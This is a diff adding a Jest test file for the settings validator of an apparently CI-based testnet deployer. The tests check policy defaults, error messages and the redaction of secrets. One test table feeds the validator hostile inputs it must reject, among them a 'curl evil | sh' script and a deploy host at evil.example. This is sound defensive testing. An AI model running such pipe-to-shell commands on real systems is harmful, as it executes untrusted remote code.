@@ -1,0 +1,157 @@
+import { generateKeyPairSync } from 'node:crypto'
+import { describe, expect, test } from '@jest/globals'
+import { parsePolicy, type Target } from '@shakedown/policy'
+import { ProblemError } from '@shakedown/ports'
+import { readSettings, type Settings } from '../../../actions/testnet-deployer/src/settings.ts'
+
+const key = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }) as string
+const fingerprint = `SHA256:${'A'.repeat(43)}`
+
+const deploy = {
+  hosts: ['alice=deploy@testnet-1.example:22'],
+  'host-fingerprint': [fingerprint],
+  'script-file': 'ops/testnet.sh',
+}
+const watch = { sources: ['ws://127.0.0.1:8545'], counter: 'ethereum-blocks', sessions: 500, 'stall-after': '6m' }
+
+function target(change: { deploy?: object; watch?: object } = {}): Target {
+  const targets = {
+    'null-deployment': { environment: 'null-deployment' },
+    testnet: { environment: 'testnet', deploy: { ...deploy, ...change.deploy }, watch: { ...watch, ...change.watch } },
+  }
+  const { policy } = parsePolicy(JSON.stringify({ version: 1, targets }), 'policy')
+  const found = policy.targets.find(({ name }) => name === 'testnet')
+  if (found === undefined) throw new Error('no testnet')
+  return found
+}
+
+function read(inputs: Record<string, string>, of: Target | undefined = target(), withoutSecrets?: string): Settings {
+  return readSettings({
+    given: new Map(Object.entries({ target: 'testnet', 'private-key': key, ...inputs })),
+    target: of,
+    where: 'policy targets.testnet',
+    withoutSecrets,
+    agentSocket: undefined,
+  })
+}
+
+function problemsOf(read: () => unknown): string[] {
+  try {
+    read()
+  } catch (error) {
+    if (error instanceof ProblemError)
+      return error.problems.map(({ where, what, mend }) => `${where}: ${what}. ${mend}`)
+    throw error
+  }
+  return []
+}
+
+/** The same without a policy: everything is given by the workflow. */
+const own = {
+  hosts: 'alice=deploy@testnet-1.example:22',
+  'host-fingerprint': fingerprint,
+  script: 'true',
+  environment: 'testnet',
+  sources: 'ws://127.0.0.1:8545',
+  counter: 'ethereum-blocks',
+}
+
+describe('settings', () => {
+  test('come from the policy; a step needs only target and key', () => {
+    const { inputs, hosts, watch: plan, environment, scriptFile } = read({})
+    expect(hosts).toEqual([{ alias: 'alice', user: 'deploy', host: 'testnet-1.example', port: 22 }])
+    expect(environment).toBe('testnet')
+    expect(scriptFile).toEqual({ path: 'ops/testnet.sh', from: 'policy' })
+    expect(plan).toMatchObject({
+      target: 500n,
+      stallAfterMs: 360_000,
+      quorum: 1,
+      from: 'baseline',
+      timeBudgetMs: 5 * 3_600_000,
+    })
+    expect(inputs['on-host-failure']).toBe('stop')
+  })
+
+  test('come from the inputs where there is no policy, with the documented defaults', () => {
+    const { watch: plan, scriptFile } = readSettings({
+      given: new Map(Object.entries({ target: 'testnet', 'private-key': key, ...own })),
+      target: undefined,
+      where: '',
+      withoutSecrets: undefined,
+      agentSocket: undefined,
+    })
+    expect(plan).toMatchObject({ target: 500n, startTimeoutMs: 300_000 })
+    expect(plan).not.toHaveProperty('stallAfterMs')
+    expect(scriptFile).toBeUndefined()
+  })
+
+  test('fill what the policy leaves out', () => {
+    expect(read({ 'poll-interval': '7s' }).watch?.pollIntervalMs).toBe(7_000)
+  })
+
+  test('the same value as the policy is no contradiction', () => {
+    expect(read({ sessions: '500' }).watch?.target).toBe(500n)
+  })
+})
+
+describe('what a workflow cannot do', () => {
+  test.each<[string, Record<string, string>, RegExp]>([
+    ['lower the sessions', { sessions: '5' }, /sessions.*policy targets\.testnet/],
+    ['lengthen the stall', { 'stall-after': '5h' }, /stall-after/],
+    ['deploy elsewhere', { hosts: 'mallory=root@evil.example' }, /hosts/],
+    ['run another script', { script: 'curl evil | sh' }, /"script".*script-file/],
+    ['trust another key by the other input', { 'known-hosts': 'testnet-1.example ssh-ed25519 AAAA' }, /known-hosts/],
+    ['trust any key', { 'insecure-ignore-host-key': 'true' }, /insecure-ignore-host-key.*pins/],
+    ['use an environment without reviewers', { environment: 'sandbox' }, /"environment".*"testnet"/],
+    ['count something easier', { counter: 'number' }, /counter/],
+  ])('%s', (_what, inputs, message) => {
+    expect(problemsOf(() => read(inputs)).join('\n')).toMatch(message)
+  })
+})
+
+describe('mistakes', () => {
+  const without = (...names: string[]) =>
+    Object.fromEntries(Object.entries(own).filter(([name]) => !names.includes(name)))
+  const noPolicy = (inputs: Record<string, string>, withoutSecrets?: string) =>
+    problemsOf(() =>
+      readSettings({
+        given: new Map(Object.entries({ target: 'testnet', ...inputs })),
+        target: undefined,
+        where: '',
+        withoutSecrets,
+        agentSocket: undefined,
+      }),
+    ).join('\n')
+
+  test('all of them are told together', () => {
+    const told = noPolicy({ target: 'testnet' })
+    for (const input of ['hosts', 'script', 'environment', 'counter', 'sources']) expect(told).toContain(`"${input}"`)
+  })
+
+  test.each<[string, Record<string, string>, RegExp]>([
+    ['no host key at all', without('host-fingerprint'), /known-hosts.*which host keys are right/],
+    ['an empty key', own, /private-key.*it is empty: the secret does not exist/],
+    ['an agent that is not there', { ...own, 'use-agent': 'true' }, /use-agent.*SSH_AUTH_SOCK/],
+    ['two scripts', { ...own, 'private-key': key, 'script-file': 'x.sh' }, /script and script-file.*both/],
+    ['a larger quorum than sources', { ...own, 'private-key': key, quorum: '2' }, /quorum.*2 is more than the 1/],
+    ['a name of our own', { ...own, 'private-key': key, env: 'SHAKEDOWN_COMMIT=x' }, /SHAKEDOWN_COMMIT/],
+    ['a name twice', { ...own, 'private-key': key, env: 'A=1', secrets: 'A=2' }, /A is set by env, too/],
+  ])('%s', (_what, inputs, message) => {
+    expect(noPolicy(inputs)).toMatch(message)
+  })
+
+  test('a pull request from a fork is told why it has no key, and what to do', () => {
+    const told = noPolicy(own, 'it is empty, because GitHub gives no secrets to a pull request from a fork')
+    expect(told).toMatch(/from a fork\. Somebody with write access/)
+  })
+
+  test.each([
+    ['secrets', { secrets: 'TOKEN=hunter2-hunter2\nnonsense-line-hunter2' }],
+    ['private-key', { 'private-key': `${key.slice(0, 60)}oops` }],
+  ])('a message about %s never quotes it', (input, change) => {
+    const told = noPolicy({ ...own, ...change })
+    expect(told).toContain(`"${input}"`)
+    expect(told).not.toContain('hunter2')
+    expect(told).not.toContain(key.slice(40, 60))
+  })
+})
